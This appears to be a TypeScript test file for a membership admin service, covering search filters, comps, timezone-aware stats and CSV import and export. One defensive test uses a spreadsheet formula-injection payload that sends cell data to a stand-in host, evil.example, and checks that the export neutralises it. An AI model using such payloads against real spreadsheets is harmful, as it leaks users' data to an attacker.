import { beforeEach, expect, it } from 'vitest';
import { analyzedRows } from '../../../test/helpers/planner-statistics.js';
import { describeEachDatabase } from '../../../test/helpers/test-database.js';
import {
  inTransaction,
  servicesFor,
  type TestContext,
} from '../../../test/helpers/test-runtime.js';
import { narrow } from '../../platform/db/index.js';
import { newId } from '../../platform/ids.js';
import { parseInput } from '../../platform/validation.js';
import { memberCompSchema, memberListQuerySchema } from '../../shared/contracts/member-admin.js';
import { parseCsv, serializeCsv } from '../../shared/csv.js';
import type { EventsTables } from '../events/index.js';
import { memberCsvColumns } from './member-csv.js';

const staff = 'staff:test';
/** Input as the Admin API's front door parses it. */
const listQuery = (input: Record<string, unknown>) => parseInput(memberListQuerySchema, input);
const compOf = (input: Record<string, unknown>) => parseInput(memberCompSchema, input);

describeEachDatabase('member admin', (getDb) => {
  let ctx: TestContext;
  beforeEach(async () => {
    await getDb().truncate();
    ctx = servicesFor(getDb());
  });

  const add = async (email: string, name = '', labels: string[] = []) => {
    const member = await ctx.services.memberAdmin.create({ email, name, labels }, staff);
    ctx.clock.advance(60_000);
    return member;
  };
  const emails = async (query: Record<string, unknown>) =>
    (await ctx.services.memberAdmin.list(listQuery(query))).items.map((m) => m.email);

  it('filters by status, label and join dates, and searches email and name literally', async () => {
    const a = await add('ann@example.org', 'Ann 100% Reader', ['press']);
    await add('bob_smith@example.org', 'Bob', ['press', 'vip']);
    await add('bobxsmith@example.org', 'Bobx');
    const d = await add('dee@example.org', 'Dee 100 Reader');
    await ctx.services.memberAdmin.comp(d.id, compOf({}), staff);

    expect(await emails({ q: '100%' })).toEqual(['ann@example.org']);
    expect(await emails({ q: 'bob_' })).toEqual(['bob_smith@example.org']);
    expect(await emails({ q: 'BOB' })).toEqual(['bobxsmith@example.org', 'bob_smith@example.org']);
    expect(await emails({ label: 'press' })).toEqual(['bob_smith@example.org', 'ann@example.org']);
    expect(await emails({ status: 'comped' })).toEqual(['dee@example.org']);
    expect(await emails({ joinedFrom: a.createdAt, joinedTo: d.createdAt })).toEqual([
      'bobxsmith@example.org',
      'bob_smith@example.org',
      'ann@example.org',
    ]);

    const first = await ctx.services.memberAdmin.list(listQuery({ limit: 2 }));
    expect(first.items.map((m) => m.email)).toEqual(['dee@example.org', 'bobxsmith@example.org']);
    const second = await ctx.services.memberAdmin.list(listQuery({ limit: 2, cursor: first.next }));
    expect(second.items.map((m) => m.email)).toEqual(['bob_smith@example.org', 'ann@example.org']);
    expect(second.next).toBeNull();

    expect(() => listQuery({ status: 'gold' })).toThrow(
      expect.objectContaining({
        status: 400,
        problems: [expect.objectContaining({ field: 'status' })],
      }) as Error,
    );
  });

  it('comps and un-comps a member, keeping both in the history', async () => {
    const m = await add('comp@example.org');
    const until = new Date(ctx.clock.now().getTime() + 30 * 86_400_000).toISOString();
    const comped = await ctx.services.memberAdmin.comp(m.id, compOf({ until }), staff);
    expect(comped).toMatchObject({ status: 'comped', accessUntil: until });
    await expect(
      ctx.services.memberAdmin.comp(m.id, compOf({ until: '2000-01-01T00:00:00Z' }), staff),
    ).rejects.toMatchObject({ status: 400, problems: [{ field: 'until' }] });
    ctx.clock.advance(1000);
    const freed = await ctx.services.memberAdmin.removeComp(m.id, staff);
    expect(freed).toMatchObject({ status: 'free', accessUntil: null });
    await expect(ctx.services.memberAdmin.removeComp(m.id, staff)).rejects.toMatchObject({
      status: 409,
    });
    const { history } = await ctx.services.memberAdmin.detail(m.id);
    expect(history.map((e) => e.type)).toEqual(['comp_removed', 'comped', 'joined']);
    expect(history[1]!.data).toMatchObject({ until, actor: staff });

    const edited = await ctx.services.memberAdmin.update(
      m.id,
      { note: 'met at the fair', labels: ['fair', 'fair', 'local'], subscribedToEmails: false },
      staff,
    );
    expect(edited).toMatchObject({ note: 'met at the fair', labels: ['fair', 'local'] });
    expect(edited.subscribedToEmails).toBe(false);
    await expect(
      ctx.services.memberAdmin.create({ email: 'COMP@example.org' }, staff),
    ).rejects.toMatchObject({
      status: 409,
      problems: [{ field: 'email' }],
    });
    await ctx.services.memberAdmin.delete(m.id, staff);
    await expect(ctx.services.memberAdmin.detail(m.id)).rejects.toMatchObject({ status: 404 });
  });

  it('counts members by status and tier, joins and losses per day, and monthly revenue', async () => {
    ctx.clock.set('2026-03-01T10:00:00Z');
    const a = await add('a@example.org');
    const b = await add('b@example.org');
    ctx.clock.set('2026-03-02T10:00:00Z');
    const c = await add('c@example.org');
    await ctx.services.memberAdmin.comp(c.id, compOf({}), staff);
    const at = ctx.clock.now().toISOString();
    // Subscriptions are payments' rows: written here on the app's handle, as a webhook would.
    await ctx.services.events.withTransaction(ctx.db, async (trx) => {
      const shared = narrow(trx).to<EventsTables>();
      for (const [m, interval, amount] of [
        [a, 'month', 500],
        [b, 'year', 6000],
      ] as const) {
        await ctx.services.members.setAccess(shared, m.id, {
          status: 'paid',
          tierId: null,
          accessUntil: null,
        });
        await trx
          .insertInto('member_subscriptions')
          .values({
            id: newId(),
            member_id: m.id,
            stripe_subscription_id: `sub_${m.id}`,
            status: 'active',
            tier_id: null,
            interval,
            amount,
            currency: 'usd',
            current_period_end: null,
            cancel_at_period_end: 0,
            stripe_updated_at: 0,
            created_at: at,
            updated_at: at,
          })
          .execute();
      }
      ctx.clock.set('2026-03-03T10:00:00Z');
      await ctx.services.members.recordEvent(shared, { memberId: b.id, type: 'cancelled' });
    });
    const stats = await ctx.services.memberAdmin.stats(
      { from: '2026-03-01', to: '2026-03-03' },
      'UTC',
    );
    expect(stats.totals).toEqual({
      all: 3,
      byStatus: { free: 0, paid: 2, comped: 1, gift: 0 },
      byTier: [],
    });
    expect(stats.days).toEqual([
      { date: '2026-03-01', joined: 2, lost: 0 },
      { date: '2026-03-02', joined: 1, lost: 0 },
      { date: '2026-03-03', joined: 0, lost: 1 },
    ]);
    expect(stats.monthlyRecurringRevenue).toEqual([{ currency: 'usd', amount: 1000 }]);
  });

  it('counts joins and losses on the newsroom’s days, not UTC’s (a +05:30 zone, across its midnight)', async () => {
    const zone = 'Asia/Kolkata';
    ctx.clock.set('2026-03-01T18:20:00Z'); // 23:50 on 1 March in Kolkata
    const late = await add('late@example.org');
    ctx.clock.set('2026-03-01T18:35:00Z'); // 00:05 on 2 March in Kolkata
    await add('early@example.org');
    // One member lost twice in one Kolkata night (two UTC hours): counted once.
    await inTransaction(ctx, async (trx) => {
      ctx.clock.set('2026-03-02T19:00:00Z'); // 00:30 on 3 March
      await ctx.services.members.recordEvent(trx, { memberId: late.id, type: 'cancelled' });
      ctx.clock.set('2026-03-02T20:00:00Z'); // 01:30 on 3 March
      await ctx.services.members.recordEvent(trx, { memberId: late.id, type: 'access_ended' });
    });
    // No range given: the last day is the newsroom's today (3 March there, 2 March in UTC).
    const stats = await ctx.services.memberAdmin.stats({}, zone);
    expect(stats.days.slice(-3)).toEqual([
      { date: '2026-03-01', joined: 1, lost: 0 },
      { date: '2026-03-02', joined: 1, lost: 0 },
      { date: '2026-03-03', joined: 0, lost: 1 },
    ]);
    // The same events read in UTC fall on other days.
    const utc = await ctx.services.memberAdmin.stats(
      { from: '2026-03-01', to: '2026-03-02' },
      'UTC',
    );
    expect(utc.days).toEqual([
      { date: '2026-03-01', joined: 2, lost: 0 },
      { date: '2026-03-02', joined: 0, lost: 1 },
    ]);
  });

  const csvOf = (count: number, bad: Map<number, string[]>) => {
    const rows: string[][] = [[...memberCsvColumns]];
    for (let i = 0; i < count; i += 1) {
      rows.push(
        bad.get(i) ?? [
          `reader${i}@example.org`,
          `Reader, ${i}`,
          i % 100 === 0 ? 'said "hi"\nand left' : '',
          i % 2 === 0 ? 'true' : 'false',
          i % 500 === 0 ? 'true' : 'false',
          i % 1000 === 0 ? `cus_${i}` : '',
          '2025-06-01T12:00:00.000Z',
          i % 3 === 0 ? 'imported, spring' : '',
        ],
      );
    }
    return serializeCsv(rows);
  };

  it('checks the whole file: three bad rows in 10,000 are named and nothing is imported', async () => {
    const bad = new Map([
      [10, ['not-an-email', '', '', '', '', '', '', '']],
      [5001, ['ok5001@example.org', '', '', 'maybe', '', '', '', '']],
      [9999, ['reader1@example.org', '', '', '', '', '', '', '']],
    ]);
    const text = csvOf(10_000, bad);
    // Row numbers count lines: the header is row 1; every 100th data row spans two lines.
    const rowOf = (i: number) => 2 + i + Math.floor((i + 99) / 100);
    const report = await ctx.services.memberAdmin.importCsv(text);
    expect(report).toMatchObject({ total: 10_000, invalid: 3, imported: 0, isImported: false });
    expect(report.problems).toEqual([
      { row: rowOf(10), field: 'email', message: 'must be an email address' },
      { row: rowOf(5001), field: 'subscribed_to_emails', message: 'must be true or false' },
      { row: rowOf(9999), field: 'email', message: `repeats the email of row ${rowOf(1)}` },
    ]);
    expect(await ctx.services.memberAdmin.count()).toBe(0);

    const skipped = await ctx.services.memberAdmin.importCsv(text, { skipInvalid: true });
    expect(skipped).toMatchObject({ imported: 9997, isImported: true, invalid: 3 });
    expect(await ctx.services.memberAdmin.count()).toBe(9997);
    expect(await ctx.services.memberAdmin.count({ status: 'comped' })).toBe(20);
    expect(await ctx.services.memberAdmin.count({ label: 'spring' })).toBe(3332);
    // Fresh planner statistics for the grown list (issue #14).
    expect(await analyzedRows(getDb(), 'members')).toBe(9997);
    const again = await ctx.services.memberAdmin.importCsv(text, { skipInvalid: true });
    expect(again).toMatchObject({ imported: 0, existing: 9997 });
  });

  it('exports CSV that imports back to the same members', async () => {
    const report = await ctx.services.memberAdmin.importCsv(csvOf(1500, new Map()));
    expect(report.imported).toBe(1500);
    const exportAll = async () => {
      let text = '';
      for await (const chunk of ctx.services.memberAdmin.exportCsv()) text += chunk;
      return text;
    };
    const exported = await exportAll();
    expect(exported.startsWith(`${memberCsvColumns.join(',')}\r\n`)).toBe(true);
    await getDb().truncate();
    const back = await ctx.services.memberAdmin.importCsv(exported);
    expect(back).toMatchObject({ imported: 1500, invalid: 0 });
    const records = (text: string) =>
      parseCsv(text)
        .map((r) => r.join('\u0000'))
        .sort();
    expect(records(await exportAll())).toEqual(records(exported));
    expect(records(exported)).toHaveLength(1501);
  });

  it('exports a formula-looking name as text a spreadsheet will not run, and imports it back as it was', async () => {
    const formula = '=HYPERLINK("http://evil.example/?d="&A2,"Open")';
    await add('mallory@example.org', formula, ['@vip']);
    await add('ann@example.org', '-Ann');
    let exported = '';
    for await (const chunk of ctx.services.memberAdmin.exportCsv()) exported += chunk;
    const cells = parseCsv(exported).slice(1).flat();
    expect(cells).toContain(`'${formula}`);
    expect(cells).toContain("'-Ann");
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);

    await getDb().truncate();
    await ctx.services.memberAdmin.importCsv(exported);
    const names = (await ctx.services.memberAdmin.list(listQuery({}))).items
      .map((m) => m.name)
      .sort();
    expect(names).toEqual(['-Ann', formula]);
  });

  it('writes nothing when an import is interrupted part-way, and the same file then imports whole', async () => {
    const text = csvOf(3500, new Map());
    let batches = 0;
    await expect(
      ctx.services.memberAdmin.importCsv(text, {
        onProgress: (done) => {
          if (done > 0 && ++batches === 2) throw new Error('connection lost');
        },
      }),
    ).rejects.toThrow('connection lost');
    expect(batches).toBe(2);
    expect(await ctx.services.memberAdmin.count()).toBe(0);
    expect(await ctx.services.memberAdmin.importCsv(text)).toMatchObject({ imported: 3500 });
    expect(await ctx.services.memberAdmin.count()).toBe(3500);
  });

  it('refuses a file without an email column or with a broken quote', async () => {
    await expect(ctx.services.memberAdmin.importCsv('name\nAnn\n')).rejects.toMatchObject({
      status: 400,
      problems: [{ field: 'file' }],
    });
    await expect(ctx.services.memberAdmin.importCsv('email\n"a@b.c\n')).rejects.toMatchObject({
      status: 400,
      problems: [{ field: 'file' }],
    });
  });
});
